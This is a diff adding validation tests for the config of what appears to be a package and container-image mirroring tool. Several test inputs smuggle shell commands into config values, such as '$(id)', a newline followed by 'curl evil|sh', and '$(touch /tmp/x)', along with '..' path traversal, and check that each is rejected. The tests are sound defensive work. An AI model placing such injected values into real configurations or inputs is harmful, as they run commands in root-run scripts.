@@ -59,6 +59,11 @@ def assert_one_line_error(proc, *needles: str) -> None:
         ("releasever: []\n", ["key 'releasever'"]),
         ("data_dir: [unclosed\n", ["mirror.yaml", "line 2"]),
         ("- just\n- a list\n", ["top level must be a mapping"]),
+        # Values that end up in root-run shell scripts and in directory names.
+        ('base_url: "http://u:8080/$(id)"\n', ["key 'base_url'", "path may only contain"]),
+        ('base_url: "http://u:8080\\ncurl evil|sh"\n', ["key 'base_url'"]),
+        ("registry: {url: 'u:5000$(touch /tmp/x)'}\n", ["key 'registry.url'", "HOST[:PORT]"]),
+        ('releasever: [".."]\n', ["key 'releasever'", "plain names"]),
     ],
 )
 def test_invalid_config_is_one_clear_line(tmp_path: Path, config: str, needles: list[str]) -> None:
@@ -96,6 +101,8 @@ def test_missing_repos_dir(tmp_path: Path) -> None:
         ("[base]\nname=B\n", ["[base]", "key 'baseurl' is missing"]),
         ("[base]\nmirrorlist=http://x/list\n", ["[base]", "mirrorlist/metalink"]),
         ("[base]\nbaseurl=ftp://x/\n", ["[base]", "unsupported URL"]),
+        ("[base]\nbaseurl=file:///srv/repo/\n", ["[base]", "unsupported URL"]),
+        ("[..]\nbaseurl=http://x/\n", ["[..]", "must start with a letter or digit"]),
         ("[base]\nbaseurl=http://x/$arch/\n", ["[base]", "$arch is not supported"]),
         ("[base]\nbaseurl=http://x/\ngpgcheck=1\n", ["[base]", "'gpgkey' is missing"]),
         ("[base]\nbaseurl=http://x/\ngpgcheck=maybe\n", ["[base]", "key 'gpgcheck'"]),
@@ -168,3 +175,33 @@ def test_shipped_default_config_is_valid() -> None:
 def test_config_error_carries_source() -> None:
     err = ConfigError("f.yaml", "key 'x': bad")
     assert str(err) == "f.yaml: key 'x': bad" and err.exit_code == 2
+
+
+def test_directory_named_like_a_repo_file_is_one_line(tmp_path: Path) -> None:
+    cfg = write(tmp_path, "")
+    (tmp_path / "repos" / "odd.repo").mkdir()
+    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
+    assert_one_line_error(proc, "odd.repo", "cannot read")
+
+
+def test_unusable_data_dir_is_one_line_exit_3(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("")
+    cfg = write(tmp_path, "data_dir: ./file/data\n")
+    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
+    assert proc.returncode == 3, proc.stderr
+    assert proc.stderr.strip().splitlines() == [
+        f"mirror: error: {tmp_path}/file/data: Not a directory"
+    ]
+
+
+def test_unreachable_external_registry_exits_3_naming_it(tmp_path: Path) -> None:
+    import socket
+
+    with socket.socket() as s:  # a port nothing listens on
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    (tmp_path / "images.txt").write_text("nginx:1.25\n")
+    cfg = write(tmp_path, f"registry: {{url: '127.0.0.1:{port}', embedded: false}}\n")
+    proc = run_mirror(tmp_path, "-c", str(cfg), "sync", "--only", "images")
+    assert proc.returncode == 3, proc.stderr
+    assert f"127.0.0.1:{port}" in proc.stderr
